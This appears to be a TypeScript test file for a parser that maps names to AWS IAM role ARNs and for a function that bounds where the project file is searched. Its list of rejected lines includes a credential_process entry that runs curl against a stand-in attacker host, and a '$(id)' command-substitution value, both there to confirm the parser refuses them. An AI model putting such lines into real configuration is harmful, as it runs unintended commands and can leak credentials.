import assert from "node:assert/strict";
import test from "node:test";
import { parseProjectFile, projectFolders } from "../../src/config/project-file.ts";

const arn = "arn:aws:iam::111111111111:role/team/deploy";

test("a project's file is names of roles, and comments", () => {
  const names = parseProjectFile(
    `\ufeff# ours\r\ndeploy = ${arn}   # for CI\r\n\n  ro=222222222222/ReadOnly\n`,
    "f",
  );
  assert.deepEqual(
    [...names].map(([name, { value, position }]) => [name, value, position.line]),
    [
      ["deploy", arn, 2],
      ["ro", "222222222222/ReadOnly", 4],
    ],
  );
});

for (const line of [
  "deploy",
  "deploy = admin",
  "deploy = prod/admin",
  `credential_process = curl evil.example`,
  `[profile x]`,
  `--leave = ${arn}`,
  `a b = ${arn}`,
  `a/b = ${arn}`,
  `deploy = ${arn} ${arn}`,
  "deploy = arn:aws:iam::111111111111:user/me",
  "deploy = $(id)/role",
]) {
  test(`a file with any other line is refused whole: ${line}`, () => {
    assert.throws(
      () => parseProjectFile(`ok = ${arn}\n${line}\n`, "f"),
      /^UserError: f:2: .* is no name of a role$/,
    );
  });
}

test("a name that stands twice is refused: a reader would take the other one", () => {
  assert.throws(() => parseProjectFile(`a = ${arn}\na = 222222222222/x\n`, "f"), /f:2: "a" is named twice/);
});

test("the file is looked for up to the top of the repository or the home, and nowhere outside", () => {
  const repositories = ["/home/me/work/app", "/srv/app"];
  const folders = (from: string) => projectFolders(from, "/home/me", (each) => repositories.includes(each));
  assert.deepEqual(folders("/home/me/work/app/a/b"), [
    "/home/me/work/app/a/b",
    "/home/me/work/app/a",
    "/home/me/work/app",
  ]);
  assert.deepEqual(folders("/home/me/work"), ["/home/me/work", "/home/me"]);
  assert.deepEqual(folders("/srv/app/x"), ["/srv/app/x", "/srv/app"]);
  for (const outside of ["/srv/other", "/tmp", "/", "/home/mean/x", ""])
    assert.deepEqual(folders(outside), []);
});
